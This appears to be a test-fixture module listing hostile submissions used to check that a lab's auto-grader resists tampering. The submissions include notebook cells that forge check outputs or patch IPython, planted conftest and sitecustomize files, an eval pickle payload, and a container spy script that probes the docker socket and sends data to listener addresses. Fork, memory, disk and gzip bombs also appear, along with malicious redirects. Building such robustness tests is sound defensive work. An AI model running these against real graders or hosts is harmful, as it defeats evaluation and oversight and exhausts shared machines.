"""Attacks on a grader, each a submission: its files, and what it deserves.

What the answer files of an attack deserve is written beside it. All of them are graded in one
room together with honest neighbours; none may change anybody's score but its own.
"""

from __future__ import annotations

import json
import pickle
from dataclasses import dataclass, field

from .conftest import APP, BASE, GOOD, WRONG

Files = dict[str, str | bytes]


@dataclass(frozen=True)
class Attack:
    """A submission and what it deserves.

    Attributes:
        files: its files by their paths.
        earns: its points.
        says: words that stand in the message of a check.
        never: words that stand in no message.
    """

    files: Files
    earns: int
    says: dict[str, str] = field(default_factory=dict)
    never: tuple[str, ...] = ()


def answer(dockerfile: str, **more: str | bytes) -> Files:
    """An answer in the usual folder; ``__`` in a name is a dot."""
    files: Files = {"90_tiny/Dockerfile": dockerfile}
    return files | {f"90_tiny/{name.replace('__', '.')}": text for name, text in more.items()}


# -- against the notebook, the checks and pytest: nothing of it is ever opened -----------------

MARK = "/tmp/mldocker-a-submission-ran"
RAN = f"open({MARK!r}, 'a').write('ran')\n"

CELLS = {
    "edited check": 'print("✔ word (3 points): the service says the word of this run")',
    "skip comment": "# NBVAL_SKIP\nex.check('word')",
    "silenced showtraceback": "get_ipython().showtraceback = lambda *a, **k: None",
    "custom exception handler": (
        "get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)\nex.check('word')"
    ),
    "AST transformer": (
        "import ast\nclass T(ast.NodeTransformer):\n    def visit_Assert(self, node): return None\n"
        "get_ipython().ast_transformers.append(T())"
    ),
    "input transformer": "get_ipython().input_transformers_cleanup.append(lambda lines: ['1'])",
    "patched run_code": "get_ipython().run_code = lambda *a, **k: False",
    "forged kernel messages": (
        "k = get_ipython().kernel\n"
        "k.session.send(k.iopub_socket, 'execute_result', {'data': {'text/plain': '✔'}})"
    ),
    "fake results": (
        "import os\nopen(os.environ['MLDOCKER_GRADE_FILE'], 'a').write('{\"check\": \"word\"}')"
    ),
    "always equal": "class E:\n    __eq__ = lambda s, o: True\n    __repr__ = lambda s: '✔'\nE()",
    "os._exit": "import os; os._exit(0)",
    "sys.exit": "import sys; sys.exit(0)",
    "infinite loop": "while True: pass",
    "loop that swallows interrupts": (
        "while True:\n    try:\n        while True: pass\n    except KeyboardInterrupt: pass"
    ),
    "30 MB of output": "print('x' * 30_000_000)",
}


def handed_notebook(*cells: str, dockerfile: str = WRONG, **metadata: object) -> str:
    """A submitted notebook: hostile cells, and the answer in a tagged one."""
    tagged = {"mldocker": {"answer": "Dockerfile"}}
    made = [
        {"cell_type": "code", "id": "same", "metadata": meta, "source": source, "outputs": FAKED}
        | {"execution_count": None}
        for source, meta in [*((RAN + cell, {}) for cell in cells), (dockerfile, tagged)]
    ]
    return json.dumps({"cells": made, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5})


FAKED = [
    {
        "output_type": "execute_result",
        "data": {"text/plain": "✔ word (3 points): the service says the word of this run"},
        "execution_count": 1,
        "metadata": {},
    }
]
RAISES = {"tags": ["raises-exception", "nbval-raises-exception", "nbval-skip"]}
KERNEL = {"kernelspec": {"name": "evil", "display_name": "evil", "language": "evil"}}


class Payload:
    """What unpickling would run."""

    def __reduce__(self):
        return eval, (RAN.strip(),)


HOSTILE_FILES: Files = {
    "90_tiny/rubric.py": RAN + "def word(evidence): return passed()",
    "90_tiny/exercise.toml": 'id = "90_tiny"\n[points]\nword = 1000\n',
    "90_tiny/conftest.py": RAN,
    "90_tiny/pytest.ini": "[pytest]\naddopts = --no-such-option\n",
    "90_tiny/docker.py": RAN,
    "90_tiny/json.py": RAN,
    "90_tiny/mldocker_lab/__init__.py": RAN,
    "90_tiny/sitecustomize.py": RAN,
    "90_tiny/app.py": APP.replace("word.txt", "other.txt"),
    "90_tiny/results.json": '{"score": 1000}',
    "90_tiny/results.pkl": pickle.dumps(Payload()),
    "90_tiny/outcomes.json": '{"word": {"outcome": "passed", "why": ""}}',
    "90_tiny/verdicts.jsonl": '{"check": "word", "verdict": {"status": "passed"}}',
    "gradebook.sqlite": "not a database",
    "conftest.py": RAN,
    "sitecustomize.py": RAN,
}

ON_NOTEBOOKS = {
    **{
        name: Attack({"90_tiny/exercise.ipynb": handed_notebook(cell)}, 1)
        for name, cell in CELLS.items()
    },
    "raises tag": Attack({"90_tiny/exercise.ipynb": handed_notebook("1 / 0", **RAISES)}, 1),
    "deleted checks, edited outputs, duplicate ids, no counts": Attack(
        {"90_tiny/exercise.ipynb": handed_notebook()}, 1
    ),
    "unknown kernel": Attack({"90_tiny/exercise.ipynb": handed_notebook("1", **KERNEL)}, 1),
    "files that flip pytest, Python and results": Attack(HOSTILE_FILES | answer(WRONG), 1),
    "the same files with a right answer": Attack(HOSTILE_FILES | answer(GOOD), 6),
}

# -- against images, caches and the cleaning up: refused by name -------------------------------

REFUSED = {
    "another's image": Attack(answer("FROM mldocker-lab/90_tiny-answer:run-1-0\n"), 0),
    "a preloaded image": Attack(answer("FROM good:latest\n" + GOOD.partition("\n")[2]), 0),
    "files of another image": Attack(answer(GOOD + "COPY --from=good /app /app\n"), 0),
    "a mount of another image": Attack(
        answer(BASE + "RUN --mount=type=bind,from=good,target=/x cp /x /y\n"), 0
    ),
    "a foreign build program": Attack(answer("# syntax=evil.example/x\n" + GOOD), 0),
    "the machine's network": Attack(answer(BASE + "RUN --network=host true\n"), 0),
    "rights on the machine": Attack(answer(BASE + "RUN --security=insecure true\n"), 0),
    "a download": Attack(answer(BASE + "ADD http://example.org/x /x\n"), 0),
    "a hidden download": Attack(
        answer(BASE.replace("\n", " AS a\n", 1) + "ONBUILD ADD http://x/x /x\nFROM a\n"), 0
    ),
    "a Dockerfile that takes for ever to read": Attack(
        answer(f"ARG A={'a' * 3000}\nARG B=${{A##{'*a' * 40}b}}\nFROM ${{B}}\n"), 0
    ),
}
#: The reason each of them is given.
REASONS = {
    "another's image": "not one of the lab's bases",
    "a preloaded image": "not one of the lab's bases",
    "files of another image": "neither a stage of this Dockerfile nor a base",
    "a mount of another image": "neither a stage of this Dockerfile nor a base",
    "a foreign build program": "names a build program",
    "the machine's network": "reaches for the machine's network",
    "rights on the machine": "asks for rights",
    "a download": "would download something",
    "a hidden download": "would download something",
    "a Dockerfile that takes for ever to read": "takes too long to read",
}

# -- from inside builds and services -----------------------------------------------------------

LOOK = r"""
import glob, os, socket, subprocess, sys, threading
seen = []
for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"):
    seen.append(f"socket:{path}") if os.path.exists(path) else None
for root, _, files in os.walk("/"):
    if root.startswith(("/proc", "/sys")):
        continue
    seen += [f"file:{root}/{f}" for f in files if f in ("rubric.py", "exercise.ipynb")
             or f.endswith((".sqlite", ".jsonl"))]
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        text = open(path, "rb").read()
    except OSError:
        continue
    seen += ["environment"] if b"MLDOCKER" in text else []
def reach(address):
    host, _, port = address.rpartition(":")
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        with socket.socket(socket.AF_INET, kind) as channel:
            channel.settimeout(0.7)
            try:
                channel.connect((host, int(port)))
                channel.send(b"SECRET")
                if kind == socket.SOCK_STREAM:
                    seen.append(f"reached:{address}")
            except OSError:
                pass
def ask_for_a_name():
    try:
        socket.getaddrinfo("example.org", 80)
        seen.append("names")
    except OSError:
        pass
threads = [threading.Thread(target=reach, args=[one]) for one in sys.argv[1].split(",")]
threads.append(threading.Thread(target=ask_for_a_name, daemon=True))
for thread in threads:
    thread.start()
for thread in threads:
    thread.join(2)
devices = [d for d in os.listdir("/dev") if d.startswith(("sd", "vd", "nvme", "loop", "kvm"))]
seen += [f"device:{d}" for d in devices]
for command in (["mount", "-t", "tmpfs", "x", "/mnt"], ["mknod", "/tmp/d", "b", "1", "1"]):
    if sys.argv[2:] == ["strict"] and subprocess.run(command, capture_output=True).returncode == 0:
        seen.append(" ".join(command))
print("SEEN", seen or "nothing", "END", flush=True)
os._exit(0)
"""
NOTHING = "SEEN nothing END"


def spies(addresses: list[str]) -> dict[str, Attack]:
    """Builds and services that look around, and try to tell somebody."""
    targets = ",".join(addresses)
    at_build = f"RUN python3 look.txt {targets}\n"
    serving = (
        f'CMD ["sh", "-c", "python3 look.txt {targets} strict >/tmp/report; python3 app.py"]\n'
    )
    start = BASE + "RUN echo slow\nCOPY . .\n"
    return {
        "a build that spies": Attack(
            answer(start + at_build + 'CMD ["python3", "app.py"]\n', look__txt=LOOK),
            6,
            {"witness": NOTHING},
            ("reached:", "file:", "socket:", "environment", "SECRET-OF-THE-RUBRIC"),
        ),
        "a service that spies": Attack(
            answer(start + serving, look__txt=LOOK),
            6,
            {"witness": f"SERVICE[{NOTHING}"},
            ("reached:", "file:", "socket:", "environment", "device:", "mount", "mknod"),
        ),
    }


FORK = "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass\n"
MEMORY = "x = []\nwhile True: x.append(bytearray(50_000_000))\n"
DISK = "f = open('/var/fill', 'wb')\nwhile True: f.write(bytes(10_000_000)); f.flush()\n"
LOOP = "while True: pass\n"


def hog(code: str, *, service: bool) -> Files:
    """Code that uses everything up, in the build or in the service."""
    start = BASE + "RUN echo slow\nCOPY . .\n"
    if service:
        return answer(start + 'CMD ["python3", "hog.txt"]\n', hog__txt=code)
    return answer(start + 'RUN python3 hog.txt\nCMD ["python3", "app.py"]\n', hog__txt=code)


FLOOD = "import sys\nfor n in range(400): sys.stdout.write('CACHED ' * 100_000)\n"
HOGS = {
    "280 MB of output from the build": Attack(hog(FLOOD, service=False), 6),
    "endless output from the service": Attack(
        hog(f"while True:\n    print('x' * 1000)\n{LOOP}", service=True), 1
    ),
    "fork bomb in the build": Attack(hog(FORK, service=False), 0, {"builds": "took longer than"}),
    "memory in the build": Attack(hog(MEMORY, service=False), 0, {"builds": "too much memory"}),
    "disk in the build": Attack(hog(DISK, service=False), 0, {"builds": "no space left"}),
    "loop in the build": Attack(hog(LOOP, service=False), 0, {"builds": "took longer than"}),
    "fork bomb in the service": Attack(hog(FORK, service=True), 1, {"word": "was not ready"}),
    "memory in the service": Attack(hog(MEMORY, service=True), 1, {"word": "ended"}),
    "disk in the service": Attack(hog(DISK, service=True), 1),
    "loop in the service": Attack(hog(LOOP, service=True), 1, {"word": "was not ready"}),
}

# -- services that answer with malice ----------------------------------------------------------

SERVE = """
import http.server, time, gzip
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        {}
    def log_message(self, *_): pass
http.server.ThreadingHTTPServer(("0.0.0.0", 8080), Handler).serve_forever()
"""
OK = "self.send_response(200); self.end_headers()"


def serving(line: str) -> Files:
    """A service of its own making."""
    dockerfile = BASE + 'RUN echo slow\nCOPY . .\nCMD ["python3", "own.txt"]\n'
    return answer(dockerfile, own__txt=SERVE.format(line))


def liars(listener: str) -> dict[str, Attack]:
    """Services that never end, blow up, or send the grader elsewhere."""
    return {
        "endless answer": Attack(
            serving(f"{OK}\n        while 1: self.wfile.write(bytes(65536))"), 1
        ),
        "dripping answer": Attack(
            serving(f"{OK}\n        while 1: self.wfile.write(b'.'); time.sleep(.1)"), 1
        ),
        "compressed bomb": Attack(
            serving(
                "self.send_response(200); self.send_header('Content-Encoding', 'gzip'); "
                "self.end_headers(); self.wfile.write(gzip.compress(bytes(50_000_000)))"
            ),
            1,
        ),
        "redirect to the machine": Attack(
            serving(
                f"self.send_response(302); self.send_header('Location', 'http://{listener}/'); "
                "self.end_headers()"
            ),
            1,
        ),
        "escapes and markup": Attack(
            serving(f"{OK}; self.wfile.write('\\x1b[2J<script>=cmd|\\u202e'.encode())"), 1
        ),
    }


# -- answers that look right -------------------------------------------------------------------

PRINTS = "CACHED [3/4] RUN echo slow; ---> Using cache; #7 CACHED; Step 3/4 : RUN echo slow"
LOOKS = {
    "a right answer": Attack(answer(GOOD), 6),
    "printed CACHED lines": Attack(
        answer(BASE + f'COPY . .\nRUN echo slow; echo "{PRINTS}"\nCMD ["python3", "app.py"]\n'), 4
    ),
    "HEALTHCHECK CMD true": Attack(
        answer(BASE + "HEALTHCHECK CMD true\nRUN echo slow\nCMD sleep 1000\n"),
        1,
        {"word": "was not ready"},
    ),
    "forged labels": Attack(
        answer(
            BASE + "LABEL mldocker_lab=mirror mldocker_lab.run=abc mldocker_lab.content=x "
            "mldocker_lab.way=host mldocker_lab.recipe=x\nRUN echo slow\nCMD sleep 1000\n"
        ),
        1,
    ),
    "a tiny image that does not work": Attack(answer("FROM scratch\nCOPY app.py /\n"), 1),
    "a word learnt by heart": Attack(
        answer(BASE + 'RUN echo slow\nCOPY word.txt app.py ./\nCMD ["python3", "app.py"]\n')
        | {"90_tiny/word.txt": "always the same"},
        6,  # its own word.txt is replaced by this run's, so it works as it should
    ),
    "a fake nvidia-smi": Attack(
        answer(GOOD.replace("COPY . .", "COPY smi.sh /usr/bin/nvidia-smi\nCOPY . ."), smi__sh="#!"),
        6,
    ),
    "a process that stays behind": Attack(
        answer(GOOD.replace("echo slow", "echo slow; (setsid sleep 600 >/dev/null 2>&1 &)")), 6
    ),
    "no answer at all": Attack({"90_tiny/notes.md": "nothing"}, 0),
    "an exercise that is not there": Attack({"99_other/exercise.toml": "x", "99_other/a": ""}, 0),
}
